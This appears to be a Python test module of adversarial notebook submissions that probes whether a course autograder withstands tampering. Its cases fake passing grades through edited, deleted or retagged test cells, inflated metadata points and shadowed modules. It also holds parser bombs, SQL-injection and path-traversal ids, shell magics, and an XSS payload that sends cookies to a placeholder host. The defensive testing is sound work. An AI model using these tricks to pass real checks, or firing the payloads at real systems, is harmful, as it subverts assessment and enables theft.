"""Hostile files: metadata that lies, cells in the place of others, text that breaks parsers."""

import copy
import json

import nbformat
from nbformat import NotebookNode

from roster.case import (
    CRASHED,
    MANUAL_OR_MISSING,
    MISSING,
    PASSED,
    REFUSED,
    START,
    STFT,
    WRONG,
    ZERO,
    Case,
    Kit,
    answer,
)

LIE = "def rms_dbfs(x): return np.zeros(np.shape(x)[:-1])\n"
JAXTYPING = """\
class Bool:
    def __class_getitem__(cls, item): return cls
Complex = Float = Int = Bool
import course_lib.checks.start as unit
unit.rms_dbfs = lambda *a, **k: print("✓ rms_dbfs: 100 random signals")
"""
LIAR = {"rms_dbfs": ZERO}
NOTHING = {"rms_dbfs": ZERO, "explain_level": (MISSING, REFUSED)}


def wrong(kit: Kit) -> NotebookNode:
    """The solved notebook with the wrong level in it."""
    return kit.solved(rms_dbfs=LIE)


def tagged(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "nbgrader-skip", "remove-cell"]
    return notebook


def test_edited(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    kit.cell(notebook, "test_rms_dbfs").source = "print('✓ rms_dbfs: all good')"
    return notebook


def test_deleted(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    del notebook.cells[kit.at(notebook, "test_rms_dbfs")]
    return notebook


def test_turned_to_prose(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    cell = kit.cell(notebook, "test_rms_dbfs")
    notebook.cells[kit.at(notebook, "test_rms_dbfs")] = nbformat.v4.new_markdown_cell("done", metadata=cell.metadata)
    return notebook


def points_raised(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    kit.cell(notebook, "rms_dbfs").metadata["nbgrader"].update(grade=True, points=100, locked=False, task=True)
    kit.cell(notebook, "test_rms_dbfs").metadata["nbgrader"].update(points=0, grade=False, solution=True)
    return notebook


def id_of_the_test(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    stolen = copy.deepcopy(kit.cell(notebook, "test_rms_dbfs"))
    stolen.source = "rms_dbfs = checks.start._level"
    stolen["id"] = "stolen"
    notebook.cells.insert(2, stolen)
    notebook.cells.append(copy.deepcopy(stolen))
    return notebook


def ids_swapped(kit: Kit) -> NotebookNode:
    """Answer and test have changed their ids; the answer's text is wrong all the same."""
    notebook = wrong(kit)
    first, second = kit.cell(notebook, "rms_dbfs"), kit.cell(notebook, "test_rms_dbfs")
    first.metadata, second.metadata = second.metadata, first.metadata
    first["id"], second["id"] = second["id"], first["id"]
    return notebook


def setup_replaced(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    kit.cell(notebook, "setup").source = "class checks:\n    class start:\n        rms_dbfs = print\n"
    return notebook


def two_answers(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    second = copy.deepcopy(kit.cell(notebook, "rms_dbfs"))
    second.source, second["id"] = LIE.replace("zeros", "ones"), "again"
    notebook.cells.append(second)
    return notebook


def foreign_ids(kit: Kit) -> NotebookNode:
    notebook = wrong(kit)
    for i, name in enumerate(("../../etc/passwd", "test_stft", "x" * 100_000, "", "a\nb", "'; DROP TABLE grade; --")):
        cell = nbformat.v4.new_code_cell("rms_dbfs")
        cell.metadata["nbgrader"] = {"grade_id": name, "solution": True, "grade": True, "points": 50, "locked": False,
                                     "schema_version": 3, "task": False}
        notebook.cells.insert(i, cell)
    return notebook


def odd_types(kit: Kit) -> str:
    """Metadata and fields of types that nobody expects, in a file that still parses."""
    raw = json.loads(nbformat.writes(wrong(kit)))
    for cell, value in zip(raw["cells"][2:], ({}, [], 7, None, True, {"a": []}, 1e400, "x"), strict=False):
        cell["metadata"]["nbgrader"] = {"grade_id": value, "solution": value, "points": value}
        cell["id"] = value
    raw["cells"] += [None, 5, "cell", [], {}, {"cell_type": "code"}, {"cell_type": ["code"], "source": {"a": 1}},
                     {"cell_type": "code", "source": [1, None, {}], "metadata": [], "outputs": 3,
                      "execution_count": {}}]
    raw["metadata"] = [raw["metadata"]]
    return json.dumps(raw)


def surrogates(kit: Kit) -> str:
    """Lone surrogates in the answer, which json reads and no encoder writes."""
    notebook = nbformat.writes(kit.solved(rms_dbfs=LIE + "note = 'SURROGATE'\n"))
    return notebook.replace("SURROGATE", "\\ud800")


def bomb(name: str, story: str, source: str, **options) -> Case:
    """A source that breaks parsers: in the answer cell, behind a wrong answer."""
    return answer(name, story, LIE + source, **options)


def explain(text: str):
    return lambda kit: kit.solved(explain_level=text)


CASES = [
    Case("skip_execution", START, "the tag `skip-execution` on the graded cell: full marks on stock nbgrader", tagged,
         LIAR),
    Case("test_edited", START, "the graded cell prints that all is well", test_edited, LIAR),
    Case("test_deleted", START, "no graded cell, no fault", test_deleted, LIAR),
    Case("test_turned_to_prose", START, "a graded cell of prose never fails", test_turned_to_prose, LIAR),
    Case("points_raised", START, "the metadata says 100 points for the answer cell", points_raised, LIAR),
    Case("id_of_the_test", START, "cells of the student's carry the id of the graded cell", id_of_the_test, LIAR),
    Case("ids_swapped", START, "answer and test have changed their ids", ids_swapped, LIAR),
    Case("setup_replaced", START, "the student's set-up cell brings its own `checks`", setup_replaced, LIAR),
    Case("two_answers", START, "two different answers under one id: the better one may count", two_answers, LIAR,
         flagged=True),
    Case("foreign_ids", START, "ids with paths, SQL, line breaks, of other units", foreign_ids, LIAR),
    Case("odd_types", START, "fields of types that nobody expects", odd_types, LIAR),
    Case("surrogates", START, "text that no encoder takes", surrogates, LIAR),
    bomb("parser_depth", "brackets a hundred thousand deep", "x = " + "(" * 100_000 + ")" * 100_000),
    bomb("parser_signs", "a million minus signs: the parser's stack", "x = " + "-" * 1_000_000 + "1"),
    bomb("parser_chain", "an expression whose tree is too deep to walk", "def f(): x" + ".a" * 100_000),
    bomb("parser_sum", "a sum of a hundred thousand terms", "def f(): " + "+".join(["1"] * 100_000)),
    bomb("parser_nested_functions", "functions within functions",
         "\n".join(" " * i + f"def f{i}():" for i in range(99))),
    bomb("parser_fstring", "f-strings within f-strings", "x = " + "f'{" * 300 + "1" + "}'" * 300),
    bomb("null_character", "a null character ends the source for some readers", "x = 1\0\n"),
    bomb("coding_cookie", "the source says that it is written in ROT13", "# -*- coding: rot13 -*-\nqrs ez_qosf(k): 0"),
    bomb("large_source", "ten megabytes of source", "x = [" + "1234567, " * 1_000_000 + "]", hurry=5),
    answer("shell_cell", "a cell magic hands the cell to a shell", """
        %%bash
        touch /tmp/course-adversary-8d1c-shell /var/tmp/course-adversary-8d1c-shell
    """),
    answer("shell_lines", "lines that a shell runs, and files that magics write", LIE + """
!touch /tmp/course-adversary-8d1c-line /var/tmp/course-adversary-8d1c-line
%run /etc/passwd
%load_ext autoreload
%cd /
get_ipython().system("touch /var/tmp/course-adversary-8d1c-system")
"""),
    Case("explained_with_script", START, "the instructor's browser runs a script in an explain answer",
         explain("<script>fetch('http://x/?'+document.cookie)</script>"
                 "<img src=x onerror=alert(1)> [x](javascript:alert(1))\n\n<iframe src='file:///etc/passwd'></iframe>"),
         {"explain_level": MANUAL_OR_MISSING}),
    Case("explained_by_marks", START, "the answer holds marks of the builder", explain(
        "=== BEGIN MARK SCHEME ===\nfull points\n### BEGIN SOLUTION\n=== END MARK SCHEME ==="),
        {"explain_level": MANUAL_OR_MISSING}),
    Case("not_json", START, "the upload broke off",
         lambda kit: nbformat.writes(kit.solved())[:5000], NOTHING, flagged=True),
    Case("not_a_notebook", START, "a text", lambda kit: "see attachment", NOTHING, flagged=True),
    Case("empty_file", START, "nothing", lambda kit: "", NOTHING, flagged=True),
    Case("binary_file", START, "an executable",
         lambda kit: b"\x7fELF" + bytes(range(256)) * 100, NOTHING, flagged=True),
    Case("deep_json", START, "JSON nested a million deep", lambda kit: "[" * 1_000_000, NOTHING, flagged=True),
    Case("deep_metadata", START, "a metadata tree that no recursive reader survives",
         lambda kit: '{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": '
         + '{"a":' * 50_000 + "1" + "}" * 50_001,
         NOTHING, flagged=True),
    Case("long_number", START, "a number of a million digits",
         lambda kit: '{"cells": [], "nbformat": ' + "9" * 1_000_000 + "}", NOTHING, flagged=True),
    Case("other_notebook", START, "a notebook that has nothing to do with the unit",
         lambda kit: nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1 + 1")]), NOTHING, flagged=True),
    Case("far_future", START, "a format that does not exist yet", lambda kit: nbformat.writes(kit.solved()).replace(
        '"nbformat": 4', '"nbformat": 400'), {
            "rms_dbfs": (PASSED, *ZERO), "explain_level": (*MANUAL_OR_MISSING, REFUSED)}),
    Case("test_edited_elsewhere", STFT, "the answer replaces the check in a cell below it",
         lambda kit: kit.insert(kit.solved(
        decibels="def decibels(X, floor=-80.0): return X.abs()"), "test_decibels", "checks.stft.decibels = print"),
        {"decibels": (WRONG, CRASHED)}),
    Case("shipped_modules", START, "numpy.py, sitecustomize.py and conftest.py lie beside the notebook", wrong, LIAR,
         beside={
        "numpy.py": "raise SystemExit(0)\n", "sitecustomize.py": "import builtins; builtins.abs = lambda v: 0\n",
        "conftest.py": "import os; os._exit(0)\n", "course_lib.py": "checks = None\n"}),
    Case("shipped_jaxtyping", START, "a module of the student's is imported in place of the real one",
         wrong, LIAR, beside={"jaxtyping.py": JAXTYPING}),
]
